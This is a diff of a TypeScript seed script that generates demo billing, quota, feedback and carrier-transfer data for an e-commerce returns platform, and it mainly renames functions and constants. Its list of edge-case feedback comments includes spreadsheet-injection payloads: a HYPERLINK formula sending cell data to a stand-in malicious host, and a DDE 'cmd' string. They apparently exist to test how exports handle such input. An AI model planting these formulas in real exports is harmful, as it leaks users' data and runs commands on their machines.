@@ -1,42 +1,50 @@
 // Seeds billing data (subscriptions, fee histories, a year of quota use) and the rows of the reports.
 import { asc, eq, gt, inArray } from 'drizzle-orm'
-import { type BilledService, billedServices, feeOf } from '#contract/platform/billing.ts'
+import { type BilledService, billedServices, getFeeField } from '#contract/platform/billing.ts'
 import type { Database } from '#server/db/database.ts'
 import { billingFees, billingQuotas, quotaUse, subscriptions } from '#server/db/schema/platform/ecommerces.ts'
 import { billingItems, billings, courierTransfers, feedbacks } from '#server/db/schema/platform/reports.ts'
 import { reverses } from '#server/db/schema/platform/reverses.ts'
-import { firstDayOf, lastMonths } from '#server/platform/ecommerces/billing.ts'
+import { getFirstDay, listLastMonths } from '#server/platform/ecommerces/billing.ts'
 import { day } from './merchants.ts'
-import { demoPeople } from './people.ts'
-import { byWeight, continueSequence, insertRows, mostMerchants, type Random, reais, seeded } from './random.ts'
-import { reverseStories, storyEcommerces } from './stories.ts'
+import { demoUsers } from './people.ts'
+import {
+  continueSequence,
+  createRandom,
+  createWeightedPicker,
+  formatCents,
+  insertRows,
+  MAX_MERCHANTS,
+  type Random,
+} from './random.ts'
+import { demoEcommerceIds, reverseScenarios } from './stories.ts'
 import { demoToday } from './today.ts'
 
 /** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
-const seed = 4217
+const BILLING_SEED = 4217
 const thisYear = demoToday.getUTCFullYear()
 
 /** Every merchant whose id is a multiple of this number has no subscription, fees or quota use. */
-const emptyEach = 12
+const UNBILLED_INTERVAL = 12
 
 type Quota = typeof billingQuotas.$inferSelect
 
 export async function seedBilling(db: Database, count: number): Promise<void> {
-  const random = seeded(seed)
-  const ids = Array.from({ length: Math.min(count, mostMerchants) }, (_, index) => index + 1)
-  const billed = ids.filter((id) => id % emptyEach !== 0)
-  await seedStory(db)
+  const random = createRandom(BILLING_SEED)
+  const ids = Array.from({ length: Math.min(count, MAX_MERCHANTS) }, (_, index) => index + 1)
+  const billedIds = ids.filter((id) => id % UNBILLED_INTERVAL !== 0)
+  await seedScenario(db)
   const quotas = await db
     .select()
     .from(billingQuotas)
-    .where(inArray(billingQuotas.ecommerce_id, billed))
+    .where(inArray(billingQuotas.ecommerce_id, billedIds))
     .orderBy(asc(billingQuotas.ecommerce_id), asc(billingQuotas.service_code))
   await insertRows(
     db,
     subscriptions,
-    billed.map((id) => subscriptionOf(random, id)),
+    billedIds.map((id) => makeSubscription(random, id)),
   )
-  const fees = billed.flatMap((id) => billedServices.flatMap((service) => feesOf(random, id, service)))
+  const fees = billedIds.flatMap((id) => billedServices.flatMap((service) => makeFees(random, id, service)))
   await insertRows(
     db,
     billingFees,
@@ -46,13 +54,13 @@ export async function seedBilling(db: Database, count: number): Promise<void> {
   await insertRows(
     db,
     quotaUse,
-    quotas.flatMap((quota) => useOf(random, quota)),
+    quotas.flatMap((quota) => makeQuotaUse(random, quota)),
   )
 }
 
 /** Gives Loja Azul three quotas: one that is exceeded, one that is not, and an unlimited one. */
-async function seedStory(db: Database): Promise<void> {
-  const ecommerce_id = storyEcommerces.lojaAzul
+async function seedScenario(db: Database): Promise<void> {
+  const ecommerce_id = demoEcommerceIds.lojaAzul
   await db.delete(billingQuotas).where(eq(billingQuotas.ecommerce_id, ecommerce_id))
   await insertRows(db, billingQuotas, [
     { ecommerce_id, service_code: 'reverse.used', monthly_quota: 1200, unlimited_quota: false },
@@ -61,12 +69,14 @@ async function seedStory(db: Database): Promise<void> {
   ])
 }
 
-function subscriptionOf(random: Random, ecommerce_id: number) {
+function makeSubscription(random: Random, ecommerce_id: number) {
   const day = random.pick(['01', '05', '15', '28'])
   return {
     ecommerce_id,
     frequency_id: random.pick([1, 2, 3, 3, 3, 3]),
-    frequency_fee: random.chance(0.05) ? '0.00' : reais(random.between(49, 2499) * 100 + random.pick([0, 90, 99])),
+    frequency_fee: random.chance(0.05)
+      ? '0.00'
+      : formatCents(random.between(49, 2499) * 100 + random.pick([0, 90, 99])),
     service_code: 'reverse',
     started_at: `${thisYear + random.between(-4, -1)}-${String(random.between(1, 12)).padStart(2, '0')}-${day}`,
     version: 1,
@@ -75,8 +85,8 @@ function subscriptionOf(random: Random, ecommerce_id: number) {
   }
 }
 
-const writers = demoPeople
-  .map((person, index) => ({ ...person, id: index + 1 }))
+const feeAuthors = demoUsers
+  .map((user, index) => ({ ...user, id: index + 1 }))
   .filter(({ account_type }) => ['ti', 'cs', 'n2'].includes(account_type))
 
 const comments = [
@@ -89,54 +99,57 @@ const comments = [
 ]
 
 /** Creates a fee history with yearly increases, some of them in the future. */
-function feesOf(random: Random, ecommerce_id: number, service_code: BilledService) {
-  const isStory = ecommerce_id === storyEcommerces.lojaAzul
-  if (!isStory && random.chance(0.3)) return []
+function makeFees(random: Random, ecommerce_id: number, service_code: BilledService) {
+  const isLojaAzul = ecommerce_id === demoEcommerceIds.lojaAzul
+  if (!isLojaAzul && random.chance(0.3)) return []
   const first = thisYear + random.between(-4, -1)
-  const last = isStory || random.chance(0.2) ? thisYear + 1 : thisYear
+  const last = isLojaAzul || random.chance(0.2) ? thisYear + 1 : thisYear
   const month = String(random.between(1, 12)).padStart(2, '0')
   let amount = random.between(9, 99) * 10
   return Array.from({ length: last - first + 1 }, (_, year) => {
-    const person = random.pick(writers)
+    const author = random.pick(feeAuthors)
     const start_at = `${first + year}-${year === 0 ? month : '01'}-01`
     amount = Math.round(amount * (1 + random.between(0, 12) / 100))
     const fee = { fixed_fee: null as string | null, variable_fee: null as string | null }
-    fee[feeOf(service_code)] = reais(feeOf(service_code) === 'fixed_fee' ? amount : amount % 500)
+    fee[getFeeField(service_code)] = formatCents(getFeeField(service_code) === 'fixed_fee' ? amount : amount % 500)
     return {
       ...{ ecommerce_id, service_code, start_at, ...fee },
       comments: random.pick(comments),
-      user_id: person.id,
-      user_name: `${person.first_name} ${person.last_name}`,
+      user_id: author.id,
+      user_name: `${author.first_name} ${author.last_name}`,
       created_at: demoToday.toISOString(),
     }
   })
 }
 
 /** Fraction of a month's use that the current month already has. */
-const shareOfMonth = 0.53
+const CURRENT_MONTH_SHARE = 0.53
 
-function useOf(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
-  const isOver = ecommerce_id === storyEcommerces.lojaAzul ? service_code === 'reverse.used' : random.chance(0.25)
-  if (ecommerce_id !== storyEcommerces.lojaAzul && random.chance(0.15)) return []
-  const usual = (monthly_quota ?? random.between(2, 90) * 100) * (isOver ? 0.95 : 0.6)
-  const months = lastMonths(demoToday)
+function makeQuotaUse(random: Random, { ecommerce_id, service_code, monthly_quota }: Quota) {
+  const exceedsQuota =
+    ecommerce_id === demoEcommerceIds.lojaAzul ? service_code === 'reverse.used' : random.chance(0.25)
+  if (ecommerce_id !== demoEcommerceIds.lojaAzul && random.chance(0.15)) return []
+  const usualUse = (monthly_quota ?? random.between(2, 90) * 100) * (exceedsQuota ? 0.95 : 0.6)
+  const months = listLastMonths(demoToday)
   // Loja Azul exceeds its quota in the current month already.
-  const thisMonth = isOver && ecommerce_id === storyEcommerces.lojaAzul ? 1.4 : shareOfMonth
+  const currentMonthFactor = exceedsQuota && ecommerce_id === demoEcommerceIds.lojaAzul ? 1.4 : CURRENT_MONTH_SHARE
   return months.map((month, index) => ({
-    ...{ ecommerce_id, service_code, month: firstDayOf(month) },
-    used: Math.round(usual * (random.between(75, 135) / 100) * (index === months.length - 1 ? thisMonth : 1)),
+    ...{ ecommerce_id, service_code, month: getFirstDay(month) },
+    used: Math.round(
+      usualUse * (random.between(75, 135) / 100) * (index === months.length - 1 ? currentMonthFactor : 1),
+    ),
   }))
 }
 
 /** Seed of a separate generator, so that changes here do not alter the rest of the demo. */
-const reportSeed = 7741
+const REPORT_SEED = 7741
 /** Maximum number of merchants with report data; more would only make a large demo slow to load. */
-const mostReportedMerchants = 300
-const mostBilled = 60
+const MAX_REPORTED_MERCHANTS = 300
+const MAX_BILLED_MERCHANTS = 60
 const firstMonth = { year: thisYear - 2, month: 1 }
 
 /** Number of reverses that are read at a time, so that a million of them does not exceed the memory. */
-const reversesAtOnce = 20_000
+const REVERSES_PER_READ = 20_000
 
 type Reverse = Pick<
   typeof reverses.$inferSelect,
@@ -145,37 +158,42 @@ type Reverse = Pick<
 
 /** Seeds the rows of the reports: feedbacks, transfers to carriers, and almost three years of bills. */
 export async function seedReports(db: Database, count: number): Promise<void> {
-  const random = seeded(reportSeed)
-  const ids = Array.from({ length: Math.min(count, mostReportedMerchants) }, (_, index) => index + 1)
-  for await (const rows of reversesIn(db)) {
-    await insertRows(db, feedbacks, feedbacksOf(random, rows))
+  const random = createRandom(REPORT_SEED)
+  const ids = Array.from({ length: Math.min(count, MAX_REPORTED_MERCHANTS) }, (_, index) => index + 1)
+  for await (const rows of readReverses(db)) {
+    await insertRows(db, feedbacks, makeFeedbacks(random, rows))
     await insertRows(
       db,
       courierTransfers,
-      rows.flatMap((reverse) => transferOf(random, reverse)),
+      rows.flatMap((reverse) => makeTransfers(random, reverse)),
     )
   }
-  await seedBillings(db, random, ids.slice(0, mostBilled))
+  await seedBillings(db, random, ids.slice(0, MAX_BILLED_MERCHANTS))
 }
 
 /** Reads all reverses in batches, ordered by id. */
-async function* reversesIn(db: Database): AsyncGenerator<readonly Reverse[]> {
+async function* readReverses(db: Database): AsyncGenerator<readonly Reverse[]> {
   const { id, ecommerce_id, status, tracking_code, created_at, updated_at } = reverses
-  for (let last = 0; ; ) {
+  for (let lastId = 0; ; ) {
     const rows: readonly Reverse[] = await db
       .select({ id, ecommerce_id, status, tracking_code, created_at, updated_at })
       .from(reverses)
-      .where(gt(id, last))
+      .where(gt(id, lastId))
       .orderBy(asc(id))
-      .limit(reversesAtOnce)
+      .limit(REVERSES_PER_READ)
     yield rows
-    if (rows.length < reversesAtOnce) return
-    last = rows.at(-1)?.id ?? 0
+    if (rows.length < REVERSES_PER_READ) return
+    lastId = rows.at(-1)?.id ?? 0
   }
 }
 
 /** Statuses of reverses that have reached the merchant. */
-const arrived: ReadonlySet<string | null> = new Set(['completed', 'done', 'partially_completed', 'almost_done'])
+const receivedStatuses: ReadonlySet<string | null> = new Set([
+  'completed',
+  'done',
+  'partially_completed',
+  'almost_done',
+])
 
 const praise = [
   '',
@@ -198,7 +216,7 @@ const complaints = [
 ]
 
 /** Picks a score from 0 to 10. */
-const pickScore = byWeight([
+const pickScore = createWeightedPicker([
   ...([
     [10, 40],
     [9, 19],
@@ -217,7 +235,7 @@ const pickScore = byWeight([
 ])
 
 /** Comments that a spreadsheet would execute, misread or split, and a very long one. */
-const storyComments = [
+const edgeCaseComments = [
   '=HYPERLINK("http://malicioso.example/?q="&A1;"Clique para ver o reembolso")',
   "@SUM(1+1)*cmd|' /C calc'!A0",
   '+55 11 99999-0000 é o meu telefone',
@@ -229,19 +247,19 @@ const storyComments = [
   `Longa história: ${'o produto veio, foi, voltou e ninguém avisou. '.repeat(40)}`,
 ]
 
-function feedbacksOf(random: Random, rows: readonly Reverse[]) {
-  const told = Object.values(reverseStories).map(({ id }): number => id)
+function makeFeedbacks(random: Random, rows: readonly Reverse[]) {
+  const scenarioIds = Object.values(reverseScenarios).map(({ id }): number => id)
   return rows.flatMap((reverse) => {
-    const comment = storyComments[told.indexOf(reverse.id)]
-    if (comment !== undefined) return [feedbackOf(random, reverse, comment)]
-    return arrived.has(reverse.status) && random.chance(0.3) ? [feedbackOf(random, reverse)] : []
+    const comment = edgeCaseComments[scenarioIds.indexOf(reverse.id)]
+    if (comment !== undefined) return [makeFeedback(random, reverse, comment)]
+    return receivedStatuses.has(reverse.status) && random.chance(0.3) ? [makeFeedback(random, reverse)] : []
   })
 }
 
 /** Creates a feedback, written within four days after the last change of the reverse. */
-function feedbackOf(random: Random, { id, ecommerce_id, updated_at }: Reverse, told?: string) {
+function makeFeedback(random: Random, { id, ecommerce_id, updated_at }: Reverse, scenarioComment?: string) {
   const score = pickScore(random)
-  const comment = told ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
+  const comment = scenarioComment ?? random.pick(score > 8 ? praise : score > 5 ? remarks : complaints)
   const at = Math.min(updated_at.getTime() + random.between(1, 96) * 3_600_000, demoToday.getTime())
   return { reverse_id: id, ecommerce_id, score, comment, created_at: new Date(at).toISOString() }
 }
@@ -257,48 +275,48 @@ const carriers = [
  * Creates the payment to a carrier, some weeks after the reverse was created; an empty array for reverses without
  * freight or paid later.
  */
-function transferOf(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
-  const isSent = arrived.has(status) || status === 'shipped' || status === 'delivered'
-  const on = created_at.getTime() + random.between(10, 40) * day
-  if (tracking_code === null || !isSent || on > demoToday.getTime() || random.chance(0.15)) return []
+function makeTransfers(random: Random, { id, ecommerce_id, status, tracking_code, created_at }: Reverse) {
+  const hasFreight = receivedStatuses.has(status) || status === 'shipped' || status === 'delivered'
+  const transferredAt = created_at.getTime() + random.between(10, 40) * day
+  if (tracking_code === null || !hasFreight || transferredAt > demoToday.getTime() || random.chance(0.15)) return []
   const { carrier, services } = random.chance(0.6) ? carriers[0] : random.pick(carriers)
   const freight = random.between(1290, 8990)
   return [
     {
       ...{ ecommerce_id, reverse_id: id, carrier, service: random.pick<string>(services), tracking_code },
-      freight: reais(freight),
-      amount: reais(Math.round(freight * (random.between(70, 92) / 100))),
-      transferred_on: new Date(on).toISOString().slice(0, 10),
+      freight: formatCents(freight),
+      amount: formatCents(Math.round(freight * (random.between(70, 92) / 100))),
+      transferred_on: new Date(transferredAt).toISOString().slice(0, 10),
       created_at: demoToday.toISOString(),
     },
   ]
 }
 
 async function seedBillings(db: Database, random: Random, ids: readonly number[]): Promise<void> {
-  const made = ids
-    .flatMap((id) => (id % 12 === 0 ? [] : monthsOf(random, id)))
+  const billingRows = ids
+    .flatMap((id) => (id % 12 === 0 ? [] : makeBillings(random, id)))
     .map((billing, index) => ({ id: index + 1, ...billing }))
-  await insertRows(db, billings, made)
+  await insertRows(db, billings, billingRows)
   await continueSequence(db, billings)
   await insertRows(
     db,
     billingItems,
-    made.flatMap((billing) => itemsOf(random, billing)),
+    billingRows.flatMap((billing) => makeBillingItems(random, billing)),
   )
 }
 
 /** Creates one bill per month up to the current month. */
-function monthsOf(random: Random, ecommerce_id: number) {
+function makeBillings(random: Random, ecommerce_id: number) {
   const last = demoToday.getUTCFullYear() * 12 + demoToday.getUTCMonth()
   const first =
     firstMonth.year * 12 +
     firstMonth.month -
     1 +
-    (ecommerce_id === storyEcommerces.lojaAzul ? 0 : random.between(0, 18))
+    (ecommerce_id === demoEcommerceIds.lojaAzul ? 0 : random.between(0, 18))
   return Array.from({ length: last - first + 1 }, (_, index) => {
     const [year, month] = [Math.floor((first + index) / 12), (first + index) % 12]
-    const date = (inMonth: number, at: number) =>
-      new Date(Date.UTC(year, month + inMonth, at)).toISOString().slice(0, 10)
+    const date = (monthOffset: number, dayOfMonth: number) =>
+      new Date(Date.UTC(year, month + monthOffset, dayOfMonth)).toISOString().slice(0, 10)
     return { ecommerce_id, started_at: date(0, 1), ended_at: date(1, 0), created_at: demoToday.toISOString() }
   })
 }
@@ -315,15 +333,15 @@ const services = [
   { service_code: 'order.used', description: 'Pedidos acima da cota', chance: 0.3, least: 15, most: 75 },
 ] as const
 
-function itemsOf(random: Random, { id }: { readonly id: number }) {
+function makeBillingItems(random: Random, { id }: { readonly id: number }) {
   return services
     .filter((service) => random.chance(service.chance))
-    .map(({ service_code, description, least, most }) => {
+    .map(({ service_code, description, least: minCents, most: maxCents }) => {
       const quantity = random.between(1, 400)
-      const cents = random.between(least, most)
+      const cents = random.between(minCents, maxCents)
       return {
-        ...{ billing_id: id, service_code, description, quantity, unit_price: reais(cents) },
-        ...{ amount: reais(cents * quantity), created_at: demoToday.toISOString() },
+        ...{ billing_id: id, service_code, description, quantity, unit_price: formatCents(cents) },
+        ...{ amount: formatCents(cents * quantity), created_at: demoToday.toISOString() },
       }
     })
 }
